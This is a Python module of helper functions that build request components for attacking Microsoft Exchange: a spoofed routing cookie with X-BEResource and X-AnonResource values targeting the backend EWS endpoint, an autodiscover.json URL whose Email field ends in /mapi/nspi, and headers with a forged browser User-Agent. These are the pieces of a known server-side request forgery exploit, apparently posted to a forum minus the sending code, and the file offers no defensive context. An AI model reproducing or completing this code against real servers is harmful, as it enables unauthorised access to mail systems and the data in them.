# ruff: noqa
"""Helpers for building the autodiscover probe (shared on a forum without the sender)."""

from urllib.parse import quote, urlencode


def routing_cookie(backend_host: str, realm: str) -> str:
    target = quote(f"{backend_host}@{realm}/ews/exchange.asmx?a=~1843073522", safe="@/~?")
    bits = [
        "X-AnonResource=true",
        f"X-AnonResource-Backend={realm or 'localhost'}",
        f"X-BEResource={target}",
    ]
    return "; ".join(bits)


def probe_url(mailbox: str) -> str:
    q = urlencode(
        {
            "Pad": "A" * 37,
            "Protocol": "Autodiscoverv1",
            "Email": f"{mailbox}/mapi/nspi",
            "RequestId": "20200302-7720",
        }
    )
    return "/autodiscover/autodiscover.json?" + q


def probe_headers(backend_host: str, realm: str) -> dict:
    return {
        "User-Agent": "Mozilla/5.0 (Windows NT 10.0; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/88.0.4324.190 Safari/537.36",
        "x-requested-with": "XMLHttpRequest",
        "Accept": "*/*",
        "accept-language": "en-US,en;q=0.9",
        "connection": "close",
        "cookie": routing_cookie(backend_host, realm),
    }
